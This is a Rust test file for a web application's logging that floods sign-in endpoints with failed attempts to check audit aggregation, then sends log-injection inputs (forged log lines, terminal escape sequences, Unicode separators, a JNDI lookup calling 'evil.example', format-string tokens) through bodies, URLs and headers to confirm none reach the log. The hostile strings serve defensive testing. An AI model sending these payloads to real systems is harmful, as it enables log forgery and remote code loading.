//! Whoever fails again and again fills no log, and whoever writes into one writes no lines of it.

#![allow(clippy::indexing_slicing, reason = "a test: a missing field fails it")]
#![allow(clippy::disallowed_methods, reason = "the test runs the program and reads its log")]

use crate::browser::{Browser, EMAIL, request, start};
use crate::process::Program;
use http::Method;
use http_body_util::Full;
use hyper::body::Bytes;
use rustix::process::Signal;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use stockade::desk::{Desk, now};

/// The entries of a kind, once the server has stopped.
async fn entries(root: &std::path::Path, kind: &str) -> Vec<(String, String)> {
    let desk = Desk::open(root, "a test", now()).await.expect("opens");
    let kind = Some(kind.parse().expect("a kind"));
    let page = desk
        .log(&store::LogPage { kind, limit: 500, ..store::LogPage::default() })
        .await
        .expect("reads");
    let line = |line: stockade::desk::LogLine| (line.subject.unwrap_or_default(), line.summary);
    page.lines.into_iter().map(line).collect()
}

/// What a stranger can fail at, each in its own way.
fn failures(n: usize) -> [(&'static str, Value); 5] {
    let wrong = format!("wrong {n}");
    let code = json!({ "challenge": wrong, "kind": "totp", "code": "000000" });
    let begin = json!({ "token": wrong, "email": EMAIL, "password": "nine small grey owls" });
    [
        ("/api/v1/sign-in", json!({ "email": EMAIL, "password": wrong })),
        ("/api/v1/sign-in", json!({ "email": format!("x{n}@example.org"), "password": wrong })),
        ("/api/v1/sign-in/factor", code),
        ("/api/v1/session/refresh", json!({})),
        ("/api/v1/setup/begin", begin),
    ]
}

#[tokio::test]
async fn a_flood_of_failures_is_an_entry_for_each_source_step_and_minute() {
    let directory = tempfile::tempdir().expect("a directory");
    let server = start(directory.path()).await;
    let mut owner = Browser::new(&server);
    owner.set_up(&server).await;
    let begun = now();
    let mut sent = 0_u64;
    for last in [2, 3] {
        let mut stranger = Browser::new(&server);
        stranger.source = Some(std::net::Ipv4Addr::new(127, 0, 0, last).into());
        let device = ("__Host-stockade-device".to_owned(), "x".to_owned());
        let refresh = ("__Host-stockade-refresh".to_owned(), "forged".to_owned());
        for n in 0..40 {
            for (path, body) in failures(n) {
                stranger.cookies = [device.clone(), refresh.clone()].into();
                let answer = stranger.post(path, body).await;
                assert!([401, 409, 429].contains(&answer.status.as_u16()), "{}", answer.text());
                sent += 1;
            }
        }
    }
    let minutes = now().duration_since(begun).as_secs() / 60 + 2;
    server.stop().await.expect("stops");
    let refused = entries(directory.path(), "signin.refused").await;
    let step = |(_, summary): &(String, String)| {
        let stage = summary.split(", ").find(|part| part.contains("stage"));
        stage.unwrap_or_else(|| panic!("{summary}")).to_owned()
    };
    let steps: BTreeSet<String> = refused.iter().map(step).collect();
    assert!(steps.len() >= 4, "{steps:?}");
    let most = 2 * steps.len() * usize::try_from(minutes).expect("few");
    assert!(refused.len() <= most, "{} entries of {sent} failures: {refused:?}", refused.len());
    for source in ["127.0.0.2", "127.0.0.3"] {
        let told = |entry: &&(String, String)| format!("{entry:?}").contains(source);
        assert!(refused.iter().any(|entry| told(&entry)), "{source}: {refused:?}");
    }
    // Nothing is lost by gathering: the entries count every failure.
    let count = |(_, summary): &(String, String)| -> u64 {
        let count = summary.split(", ").find_map(|part| part.strip_prefix("count "));
        count.unwrap_or_else(|| panic!("{summary}")).parse().expect("a number")
    };
    assert_eq!(refused.iter().map(count).sum::<u64>(), sent, "{refused:?}");
}

/// Texts that would begin a line of their own, end a record, or drive a terminal.
const FORGED: &[&str] = &[
    "x\n2026-01-01T00:00:00.000000Z ERROR forged",
    "x\r\n{\"level\":\"ERROR\",\"fields\":{\"message\":\"forged\"}}",
    "x\u{85}forged\u{2028}forged\u{2029}forged",
    "\u{1b}[2J\u{1b}[31mforged\u{9b}31m\u{8}\u{7f}",
    "${jndi:ldap://evil.example/forged} %n%s%x {0} \u{202e}forged",
];

/// Sends each text to wherever a stranger or a person can write one.
async fn write_everywhere(program: &Program) {
    let mut browser = program.browser();
    browser.set_up_by(program.link.as_deref().expect("a link")).await;
    for text in FORGED {
        for (path, body) in [
            ("/api/v1/sign-in", json!({ "email": text, "password": text })),
            ("/api/v1/sign-in", json!({ *text: text })),
            ("/api/v1/strategies", json!({ "name": text, "text": text })),
            ("/api/v1/strategies/check", json!({ "text": text })),
            ("/api/v1/factors", json!({ "name": text, "text": text, "note": text })),
            ("/api/v1/factors/check", json!({ "text": text })),
            ("/api/v1/backtests", json!({ "text": format!("version: 1\nname: {text:?}\n") })),
            (
                "/csp-report",
                json!({ "csp-report": { "document-uri": text,
                "effective-directive": text, "blocked-uri": text, "script-sample": text } }),
            ),
        ] {
            let answer = browser.post(path, body).await;
            assert!(!answer.status.is_server_error(), "{path}: {}", answer.text());
        }
        let escaped = text.bytes().fold(String::new(), |all, byte| all + &format!("%{byte:02x}"));
        for path in [
            format!("/{escaped}"),
            format!("/api/v1/{escaped}"),
            format!("/api/v1/datasets/{escaped}"),
            format!("/api/v1/strategies/{escaped}"),
            format!("/api/v1/audit?kind={escaped}"),
            format!("/api/v1/datasets?{escaped}=1"),
        ] {
            let answer = browser.get(&path).await;
            assert!(!answer.status.is_server_error(), "{path}: {}", answer.text());
        }
        // What a header can carry of it.
        let visible: Vec<u8> = text.bytes().filter(|byte| *byte >= 0x20 && *byte != 0x7f).collect();
        for name in ["user-agent", "x-request-id", "x-forwarded-for", "forwarded", "referer"] {
            let mut sent = request(Method::POST, "/api/v1/sign-in", Some(json!({})));
            let value = http::HeaderValue::from_bytes(&visible).expect("a value");
            sent.headers_mut().insert(name, value);
            *sent.body_mut() = Full::new(Bytes::from_static(b"{}"));
            browser.raw(sent).await.expect(422);
        }
    }
}

fn is_plain(line: &str) -> bool {
    let bad = |c: char| c.is_control() || ['\u{2028}', '\u{2029}', '\u{202e}'].contains(&c);
    !line.contains(bad)
}

#[tokio::test]
async fn nobody_writes_a_line_of_the_log() {
    for form in ["text", "json"] {
        let place = tempfile::tempdir().expect("a directory");
        let settings = format!("[log]\nlevel = \"debug\"\nformat = \"{form}\"\n");
        let program =
            Program::start(&place.path().join("data"), &place.path().join("log"), &settings);
        write_everywhere(&program).await;
        let log = program.log.clone();
        assert!(program.end(Signal::TERM).success());
        let logged = std::fs::read_to_string(log).expect("UTF-8");
        let mut answered = 0;
        // What it tells the person at the terminal is no entry.
        for line in logged.lines().filter(|line| !line.starts_with("stopped; ")) {
            assert!(is_plain(line), "{line:?}");
            assert!(!line.contains("forged"), "a text of a stranger's: {line}");
            if form == "json" {
                let entry: Value = serde_json::from_str(line).expect("JSON");
                assert!(entry["timestamp"].is_string() && entry["level"].is_string(), "{line}");
            } else {
                assert!(line.starts_with("20") && line[..32].contains('Z'), "{line:?}");
            }
            answered += usize::from(line.contains("answered"));
        }
        assert!(answered > 50, "{answered} of {}", logged.lines().count());
    }
    assert!(!is_plain("a\u{1b}[2J") && !is_plain("a\u{2028}"), "the test can fail");
}
